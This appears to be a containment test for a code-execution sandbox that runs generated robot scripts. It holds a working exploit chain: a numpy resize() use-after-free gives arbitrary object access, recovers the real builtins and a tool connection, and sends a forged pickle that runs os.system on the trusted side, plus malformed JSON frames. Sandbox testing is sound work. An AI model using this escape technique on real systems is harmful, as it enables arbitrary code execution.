# class: pickle_into_trusted
# expect: contained
# attack: takes the tool channel from a stand-in's closure or module (resize() use-after-free) and writes messages of its own: a hand-written pickle whose REDUCE runs os.system('touch MARK') on the tools' side, or JSON frames the program's encoder never makes (a pose of 400-digit numbers, NaN, absurd shapes)
keep = []


def aliased_pair(n):
    # an int64 view left on a block that resize() freed, then an object array allocated into that block
    for attempt in range(60):
        source = np.zeros(n)
        owner = np.zeros(n, dtype=np.int64)
        ints = owner[:]
        owner.resize(n * 16, refcheck=False)
        owner[0] = 12345
        keep.append(owner)
        if ints[0] == 12345:
            continue
        marker = (1, 2)
        objects = source.astype("O")
        for i in range(n):
            objects[i] = marker
        keep.append(objects)
        first = int(ints[0])
        if first != 0 and all(int(ints[i]) == first for i in range(n)):
            return ints, objects
    raise RuntimeError("the freed block was not reused")


ints, objects = aliased_pair(256)


def address_of(thing):
    objects[1] = thing
    return int(ints[1])


def object_at(address):
    ints[2] = address
    found = objects[2]
    ints[2] = 0
    return found


def packed(values):
    text = ""
    for value in values:
        for k in range(8):
            text += chr((value >> (8 * k)) & 255)
    return text.encode("latin-1")


def pointer_field(thing, offset):
    # a list laid out by hand in a bytes object: refcount, type, size, items pointer, allocated
    fake = packed([1 << 40, address_of(list), 1, address_of(thing) + offset, 1])
    keep.append(fake)
    return object_at(address_of(fake) + 32)[0]


def real_builtins():
    for function in (Pose.copy, get_object_name_list, print):
        candidate = pointer_field(function, 24)  # PyFunctionObject.func_builtins
        if isinstance(candidate, dict) and "__import__" in candidate:
            return candidate
    raise RuntimeError("no builtins found")


def tool_module_globals():
    return pointer_field(get_object_name_list, 16)  # PyFunctionObject.func_globals of a tool stand-in


real = real_builtins()
get = real["getattr"]
os_module = real["__import__"]("os")
module_globals = tool_module_globals()
if "channel" not in module_globals:
    conn = None
    for cell in pointer_field(get_object_name_list, 72):  # PyFunctionObject.func_closure
        if get(cell.cell_contents, "send_bytes", None) is not None:
            conn = cell.cell_contents
    ok = module_globals["Outcome"].OK.value
    # ("done", ExecutionResult(Outcome("ok"), None, "all done"), os.system("touch MARK")) in pickle protocol 0
    text = (
        "(S'done'\ncroboscript.codegen.sandbox\nExecutionResult\n(croboscript.codegen.outcomes\nOutcome\n(S'" + ok + "'\n"
        "tRNS'all done'\ntRcos\nsystem\n(S'touch MARK'\ntRt."
    )
    conn.send_bytes(text.encode("ascii"))
    get(os_module, "_exit")(0)
else:
    channel = module_globals["channel"]
    fd = int(real["__import__"]("sys").argv[1])
    nan = float("nan")
    frames = [
        {"call": "move_to_pose", "args": [{"$": "pose", "v": [10**400, 0, 0, 0, 0, 0, 1]}], "kwargs": {}},
        {"call": "move_in_direction", "args": [{"$": "tuple", "v": [{"$": "point", "v": [0, 0, 2**1100]}, 0.1]}], "kwargs": {}},
        {"call": "move_to_pose", "args": [{"$": "pose", "v": [nan, nan, nan, 0, 0, 0, 1]}], "kwargs": {}},
        {"call": "get_plane_normal", "args": ["table", {"$": "array", "dtype": "float64", "shape": [0, 10**30], "v": ""}], "kwargs": {}},
        {"call": "move_to_pose", "args": [{"$": "quaternion", "v": [0, 0, 0, 1e400]}], "kwargs": {}},
    ]
    for frame in frames:
        channel.send(fd, frame)
        print(channel.receive(fd, 1 << 20))
    get(os_module, "_exit")(0)
